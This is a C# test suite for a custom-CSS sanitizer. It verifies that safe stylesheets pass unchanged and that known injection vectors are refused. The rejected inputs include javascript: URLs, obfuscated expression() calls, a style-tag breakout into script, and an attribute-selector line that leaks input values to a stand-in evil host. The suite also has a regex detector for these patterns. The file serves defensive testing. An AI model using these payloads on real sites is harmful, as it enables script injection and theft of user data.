using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Css.Dom;
using AngleSharp.Css.Parser;
using FsCheck;
using FsCheck.Fluent;
using Platform.Domain.Sites;
using Platform.Processors.Sites;

namespace Platform.Processors.Tests.Sites;

/// <summary>Custom CSS: what is allowed gets through with its meaning, what isn't is refused with its place and rule.</summary>
public sealed partial class CustomCssTests
{
    private static CssParser Parser { get; } = new(new CssParserOptions { IsIncludingUnknownDeclarations = true, IsIncludingUnknownRules = true });

    [Theory]
    [InlineData("", "")]
    [InlineData(".hero { color: #ff0000 }", ".hero { color: rgba(255, 0, 0, 1); }")]
    [InlineData("a:hover, .x > .y + p::before { content: \"Ünlü /* no comment */\" }", "a:hover, .x>.y+p::before { content: \"Ünlü /* no comment */\"; }")]
    [InlineData("/* \\ < @import */ h1 { margin: 0 /* here */ auto }", "h1 { margin: 0 auto; }")]
    [InlineData(".x { color: var(--brand-color-link); --own-gap: 4px }", ".x { color: var(--brand-color-link); --own-gap: 4px; }")]
    [InlineData(".x { margin: var(--brand-spacing) }", ".x { margin: var(--brand-spacing); }")]
    [InlineData(".x { padding: calc(2 * var(--brand-spacing)) }", ".x { padding: calc(2 * var(--brand-spacing)); }")]
    [InlineData(".x { background-image: url(\"https://cdn.example.org/a.png\") }", ".x { background-image: url(\"https://cdn.example.org/a.png\"); }")]
    [InlineData(".x { background-image: url('/media/a.png') }", ".x { background-image: url(\"/media/a.png\"); }")]
    [InlineData(".x { background-image: url(\"data:image/png;base64,iVBORw0KGgo=\") }", ".x { background-image: url(\"data:image/png;base64,iVBORw0KGgo=\"); }")]
    [InlineData(".x { display: grid; gap: 8px; grid-template-columns: repeat(2, 1fr) }", ".x { display: grid; gap: 8px; grid-template-columns: repeat(2, 1fr); }")]
    [InlineData(".x { border-radius: 4px !important }", ".x { border-radius: 4px !important; }")]
    [InlineData(".x { aspect-ratio: 16 / 9; accent-color: #123456 }", null)]
    [InlineData("@media (min-width: 600px) { .x { color: #00f } }", "@media (min-width: 600px) { .x { color: rgba(0, 0, 255, 1); } }")]
    [InlineData("@supports (display: grid) { .x { display: grid } }", "@supports (display: grid) { .x { display: grid; } }")]
    [InlineData("@keyframes fade { from { opacity: 0 } to { opacity: 1 } } .x { animation: fade 1s }", null)]
    [InlineData("input[type=\"text\"]:not(.x):nth-child(2n+1) { color: #000 }", null)]
    [InlineData(".x { background: linear-gradient(#fff, #000) }", null)]
    [InlineData(".x { transition: color 200ms cubic-bezier(0, 0, 1, 1), opacity .2s ease-in-out }", null)]
    [InlineData(".x { flex: 1 1 0; font: 700 1rem/1.5 Georgia, serif; border: 1px solid var(--brand-color-border) }", null)]
    [InlineData(".x { background: url(\"/a.png\") no-repeat center / cover; margin: 0 auto !important; inset: 0 }", null)]
    [InlineData(".x { transform: translate(-50%, -50%) rotate(3deg); width: min(100%, 60rem); font-size: clamp(1rem, 2vw, 2rem) }", null)]
    [InlineData(".x { color: hsl(200, 50%, 40%); background-color: rgb(0 0 0 / 50%); overflow-wrap: anywhere; height: 100vh }", null)]
    [InlineData(".a:is(.b, .c) ~ :where(h1, h2):has(> img) { text-transform: uppercase; text-decoration: underline }", null)]
    [InlineData("@media (prefers-color-scheme: dark) { @supports (display: grid) { .x { color: #fff } } }", null)]
    [InlineData("@media screen and (max-width: 40em), print { .x { display: none } .y { float: left } }", null)]
    [InlineData(".x { grid-template-areas: \"a b\" \"c d\"; grid-area: a; align-items: center; justify-content: space-between; place-items: center }", null)]
    [InlineData(".x { box-shadow: 0 1px 2px rgba(0, 0, 0, .2); border-radius: 4px 8px; outline: 2px solid currentColor; list-style: none }", null)]
    [InlineData(".x { color: red; color: blue } .x { color: green }", null)]
    public void What_is_allowed_gets_through(string css, string? written)
    {
        var read = CustomCss.Of(css);
        read.Problem.ShouldBeNull();
        if (written is not null)
            Spaces().Replace(read.Written, " ").Trim().ShouldBe(written);
        Unsafe(read.Written).ShouldBeEmpty();
        // What is written is understood as it was.
        CustomCss.Of(read.Written).ShouldBe(read);
    }

    /// <summary>Vectors of the field (OWASP, html5sec, PortSwigger) and the places where they hide.</summary>
    [Theory]
    [InlineData("@import url(\"https://evil.example/x.css\");", "at-rule")]
    [InlineData("@import 'x.css';", "at-rule")]
    [InlineData("@IMPORT \"x\";", "at-rule")]
    [InlineData("@im\\port 'x';", "at-rule")]
    [InlineData("a { color: red } @import 'x';", "at-rule")]
    [InlineData("@charset \"utf-7\";", "at-rule")]
    [InlineData("@namespace x \"http://www.w3.org/1999/xhtml\";", "at-rule")]
    [InlineData("@font-face { font-family: x; src: url(\"https://evil.example/x\") }", "at-rule")]
    [InlineData("@page { margin: 0 }", "at-rule")]
    [InlineData("@document url(http://x) { a { color: red } }", "at-rule")]
    [InlineData("@-moz-document url-prefix() { a { color: red } }", "at-rule")]
    [InlineData("a { @import 'x'; }", "declaration")]
    [InlineData("a { color: red; background: @import }", "at-rule")]
    [InlineData("@media screen { @import 'x'; }", "at-rule")]
    [InlineData("a { background: url(javascript:alert(1)) }", "url")]
    [InlineData("a { background: url(\"javascript:alert(1)\") }", "url")]
    [InlineData("a { background: url('javascript:x') }", "url")]
    [InlineData("a { background: URL('JaVaScRiPt:x') }", "url")]
    [InlineData("a { background: url( 'vbscript:x' ) }", "url")]
    [InlineData("a { background: url(\"\\6a avascript:alert(1)\") }", "url")]
    [InlineData("a { background: u\\72l(\"javascript:alert(1)\") }", "escape")]
    [InlineData("a { background: \\75\\72\\6c(javascript:alert(1)) }", "escape")]
    [InlineData("a { background: url(\"data:text/html,x\") }", "url")]
    [InlineData("a { background: url(\"data:image/svg+xml;base64,PHN2Zz4=\") }", "url")]
    [InlineData("a { background: url(\"//evil.example/x\") }", "url")]
    [InlineData("a { background: url(\"http://evil.example/x\") }", "url")]
    [InlineData("a { background: url(\"https://user@evil.example/x\") }", "url")]
    [InlineData("a { background: url(\"/a\\\") }", "url")]
    [InlineData("a { background: url(/a.png) }", "url")]
    [InlineData("a { background: url(/**/\"/a.png\") }", "url")]
    [InlineData("a { --x: url(javascript:alert(1)); background: var(--x) }", "url")]
    [InlineData("a { background: image-set(\"https://evil.example/x\" 1x) }", "function")]
    [InlineData("a { background: -webkit-image-set(\"x\" 1x) }", "function")]
    [InlineData("a { background: image(\"x\") }", "function")]
    [InlineData("a { background: src(\"javascript:x\") }", "function")]
    [InlineData("a { background: cross-fade(red, blue) }", "function")]
    [InlineData("a { background: element(#x) }", "function")]
    [InlineData("a { background: paint(x) }", "function")]
    [InlineData("a { content: attr(value) }", "function")]
    [InlineData("a { width: expression(alert(1)) }", "function")]
    [InlineData("a { width: ex/**/pression(alert(1)) }", "function")]
    [InlineData("a { width: e\\xpression(alert(1)) }", "escape")]
    [InlineData("a { width: ｅｘｐｒｅｓｓｉｏｎ(alert(1)) }", "character")]
    [InlineData("a { width: exp\u0000ression(alert(1)) }", "character")]
    [InlineData("a { --x: expression(alert(1)) }", "function")]
    [InlineData("a { behavior: url(\"/x.htc\") }", "property")]
    [InlineData("a { BEHAVIOR: url(\"/x.htc\") }", "property")]
    [InlineData("a { -moz-binding: url(\"/x.xml#a\") }", "property")]
    [InlineData("a { -ms-behavior: url(\"/x\") }", "property")]
    [InlineData("a { filter: progid:DXImageTransform.Microsoft.Alpha(opacity=1) }", "function")]
    [InlineData("a { *color: red }", "declaration")]
    [InlineData("a { b\\65haviour: x }", "escape")]
    [InlineData("a { color: red }</style><script>alert(1)</script>", "markup")]
    [InlineData("a { content: \"</style><script>\" }", "markup")]
    [InlineData("<!-- a { color: red } -->", "markup")]
    [InlineData("a { color: red } --> b { color: red }", "markup")]
    [InlineData("a { content: \"\\\" } b { background: url(javascript:x) }", "escape")]
    [InlineData("a { content: \"x\n\"; background: red }", "string")]
    [InlineData("a { content: \"x }", "string")]
    [InlineData("a { content: '\"' }", "string")]
    [InlineData(":root { --brand-color-text: #fff }", "property")]
    [InlineData("a { width: ((((((((((((((((((1px)))))))))))))))))) }", "nesting")]
    [InlineData("a:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(:not(b))))))))))))))))) { color: red }", "nesting")]
    [InlineData("a { color: red", "unbalanced")]
    [InlineData("a { color: red } }", "unbalanced")]
    [InlineData("@media screen { a { color: red }", "unbalanced")]
    [InlineData("a { color: rgb(1, 2, 3 }", "unbalanced")]
    [InlineData("a { width: calc(1px]) }", "unbalanced")]
    [InlineData("a[x { color: red }", "unbalanced")]
    [InlineData("a { color: red } /* x", "comment")]
    [InlineData("a { color: { x: y } }", "nesting")]
    [InlineData("a { & b { color: red } }", "declaration")]
    [InlineData("a { --x: { color: red } }", "nesting")]
    [InlineData("@media screen { @media screen { @media screen { @media screen { @media screen { a { color: red } } } } } }", "nesting")]
    [InlineData("input[value^=\"a\"] { background: url(\"https://evil.example/a\") }", "selector")]
    [InlineData("input[value$=a] { color: red }", "selector")]
    [InlineData("input[value *= a] { color: red }", "selector")]
    [InlineData("{ color: red }", "selector")]
    [InlineData("a;", "statement")]
    [InlineData("a { color }", "declaration")]
    [InlineData("a { color: }", "declaration")]
    [InlineData("a { color: no-such-colour(1) }", "function")]
    [InlineData("\uFEFFa { color: red }", "character")]
    [InlineData("a { content: \"\u0085\" }", "character")]
    public void What_is_not_allowed_is_refused_by_its_rule(string css, string rule)
    {
        var read = CustomCss.Of(css);
        read.Problem.ShouldNotBeNull();
        read.Problem.ShouldEndWith($" (rule {rule})");
        read.Written.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("a { color: red }\n\nb {\n  behavior: x\n}", "The property 'behavior' isn't allowed at line 4, column 3. (rule property)")]
    [InlineData("@import 'x';", "@import isn't allowed; only @keyframes, @media, @supports are at line 1, column 1. (rule at-rule)")]
    [InlineData("a { color: red; background: url(javascript:x) }", "An address has to be written url(\"...\"), and end at line 1, column 29. (rule url)")]
    [InlineData("a {\n  width: 3furlongs;\n}", "The value of 'width' isn't understood at line 2, column 3. (rule value)")]
    [InlineData("b { color: red }\na:::b { color: red }", "A selector isn't understood at line 2, column 1. (rule selector)")]
    public void A_finding_names_its_place(string css, string problem) => CustomCss.Of(css).Problem.ShouldBe(problem);

    [Fact]
    public void Half_a_character_is_refused() => CustomCss.Of($"a {{ content: \"{'\ud800'}\" }}").Problem.ShouldBe("A control character, or half a character, isn't allowed at line 1, column 15. (rule character)");

    [Fact]
    public void Deep_and_long_css_is_answered()
    {
        CustomCss.Of(new string('(', 16_000)).Problem.ShouldNotBeNull();
        CustomCss.Of(new string('{', 16_000)).Problem.ShouldNotBeNull();
        CustomCss.Of($"a {{ width: {string.Concat(Enumerable.Repeat("calc(", 2_000))}1px{new string(')', 2_000)} }}").Problem.ShouldNotBeNull();
        CustomCss.Of($"{string.Concat(Enumerable.Repeat("a>", 7_000))}a {{ color: red }}").Problem.ShouldBeNull();
        CustomCss.Of($"a {{ margin:{new string(' ', 15_000)}1px }}").Problem.ShouldBeNull();
        CustomCss.Of($"a {{ transition: {string.Join(',', Enumerable.Repeat("color 1s", 1_500))} }}").Problem.ShouldBeNull();
        CustomCss.Of(string.Concat(Enumerable.Repeat("a{color:red}", 1_300))).Problem.ShouldBeNull();
        CustomCss.Of(string.Concat(Enumerable.Repeat("@media screen{", 1_100))).Problem.ShouldNotBeNull();
    }

    /// <summary>Whatever is put together from pieces of CSS and of attacks: what comes out has nothing in it that isn't allowed, for another reader.</summary>
    [Fact]
    public void Whatever_comes_out_is_safe_when_it_is_read_again()
    {
        string[] pieces =
        [
            "a", ".x", "#y", "*", " ", "\n", "{", "}", "{", "}", ";", ":", ",", "(", ")", "[", "]", "\"", "'", "/*", "*/", "\\", "\\6a ", "<", "-->", "@media screen", "@import", "@supports (x:y)", "@keyframes k",
            "color", "color: red;", "margin:", "1px", "background:", "background-image:", "url(", "url(\"/a.png\")", "url(\"https://x.example/\")", "url(javascript:x)", "\"javascript:x\"", "expression(1)", "attr(x)",
            "behavior:", "-moz-binding:", "--x:", "var(--x)", "calc(1px + 2px)", "rgb(1,2,3)", "content:", "!important", "é", "\u0000", "from", "50%", "^=", "&",
        ];
        string[] whole = ["a { color: red }", ".x { background: url(\"/b.png\") }", "@media screen { #y { --x: 1px; margin: var(--x) } }", "/* a */", "b::before { content: \"}\" }", "@keyframes k { 50% { opacity: 0 } }"];
        var css = Gen.Choose(0, 8).SelectMany(length => Gen.Frequency((5, Gen.Elements(whole)), (1, Gen.Elements(pieces))).ArrayOf(length)).Select(string.Concat).ToArbitrary();
        var through = 0;
        Prop.ForAll(css, text =>
        {
            var read = CustomCss.Of(text);
            through += read.Written.Length > 0 ? 1 : 0;
            return Unsafe(read.Written).Count == 0 && (read.Problem is null || read.Written.Length == 0);
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(2_000));
        through.ShouldBeGreaterThan(500);
    }

    /// <summary>Whatever a token's rules let through is one declaration, and no more.</summary>
    [Fact]
    public void A_token_is_one_declaration_whatever_it_says()
    {
        string[] pieces = ["#", "fff", "a1b2c3", "80", "0", "1", ".5", "px", "rem", "/", "//", "https://", "x.example", "media", ".png", ".svg?v=1", "Georgia", "serif", ", ", "\"", "\"Gill Sans\"", " ", ";", "}", "{", ":", "(", ")", "\\", "\n", "*/", "<", "é", "url("];
        var texts = Gen.Elements(pieces).ListOf().Select(list => string.Concat(list.Take(6))).ToArbitrary();
        var keys = BrandSheets.Keys.Where(key => key.Name != Brand.Css).ToList();
        var through = 0;
        Prop.ForAll(texts, text =>
        {
            var value = JsonSerializer.SerializeToElement(text);
            var fine = keys.Where(key => key.Problem(value) is null).Select(key => key.Name).ToHashSet();
            through += fine.Count;
            var style = (ICssStyleRule)Parser.ParseStyleSheet(Brand.Properties(key => fine.Contains(key) ? value : PlatformKeys.All[key].Default)).Rules.ShouldHaveSingleItem();
            return style.Style.Length == keys.Count - 1 && style.Style.All(declaration => declaration.Name.StartsWith("--brand-", StringComparison.Ordinal));
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(3_000));
        through.ShouldBeGreaterThan(100);
    }

    /// <summary>Style sheets that are fine, with one piece of an attack put in at any place.</summary>
    [Fact]
    public void An_attack_in_any_place_comes_out_nowhere()
    {
        const string fine = "a:hover { color: red; content: \"x\"; background-image: url(\"/a.png\") } /* c */ @media (min-width: 1px) { .x { margin: calc(1px + 2px) } }";
        string[] attacks = ["url(javascript:x)", "expression(x)", "@import 'x';", "</style>", "\\75rl(x)", "behavior:url(\"/x\");", "\"", "'", "*/", "/*", "}", "{", "-moz-binding:x;", "url(", "\n", ")"];
        var places = Gen.Choose(0, fine.Length).SelectMany(at => Gen.Elements(attacks).Select(attack => fine.Insert(at, attack))).ToArbitrary();
        var through = 0;
        Prop.ForAll(places, text =>
        {
            var written = CustomCss.Of(text).Written;
            through += written.Length > 0 ? 1 : 0;
            return Unsafe(written).Count == 0;
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(2_000));
        // In a comment or a text it's neither an attack nor refused.
        through.ShouldBeGreaterThan(10);
    }

    // Not by what is tested: texts are put aside, and the rest is looked at by words; then a parser names the properties and rules.
    private static List<string> Unsafe(string css)
    {
        var found = Address().Matches(css).Select(url => url.Groups[1].Value).Where(address => !address.StartsWith("https://", StringComparison.Ordinal) && !SitePath().IsMatch(address)
            && !address.StartsWith("data:image/png;base64,", StringComparison.Ordinal)).ToList();
        var bare = Quoted().Replace(Address().Replace(css, "none"), "''");
        found.AddRange(Forbidden().Matches(bare).Select(match => match.Value));
        if (css.Contains('<') || css.Contains('\\'))
            found.Add("a character");
        var sheet = Parser.ParseStyleSheet(css);
        found.AddRange(sheet.Rules.Where(rule => rule is not (ICssStyleRule or ICssMediaRule or ICssSupportsRule or ICssKeyframesRule)).Select(rule => rule.CssText));
        found.AddRange(sheet.Rules.OfType<ICssStyleRule>().SelectMany(rule => rule.Style).Select(declaration => declaration.Name).Where(name => name is "behavior" or "-moz-binding"));
        return found;
    }

    [GeneratedRegex(@"\s+")]
    private static partial Regex Spaces();

    [GeneratedRegex(@"url\(""([^""]*)""\)")]
    private static partial Regex Address();

    [GeneratedRegex(@"^/([^/]|\z)")]
    private static partial Regex SitePath();

    [GeneratedRegex(@"""[^""]*""|'[^']*'")]
    private static partial Regex Quoted();

    [GeneratedRegex(@"@(?!media\b|supports\b|keyframes\b)|url\s*\(|expression|attr\s*\(|image-set|behavior|-moz-binding|javascript|/\*|[\x00-\x08]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Forbidden();
}
